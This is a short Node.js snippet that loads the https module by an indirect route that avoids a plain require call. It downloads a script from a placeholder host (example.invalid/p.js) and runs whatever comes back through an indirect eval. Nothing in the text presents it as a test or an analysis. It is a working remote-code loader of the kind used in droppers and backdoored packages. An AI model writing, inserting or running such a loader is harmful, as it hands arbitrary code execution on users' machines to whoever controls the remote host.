const h = module.constructor._load('https');
h.get('https://example.invalid/p.js', (r) => {
  let b = '';
  r.on('data', (c) => (b += c));
  r.on('end', () => (0, eval)(b));
});
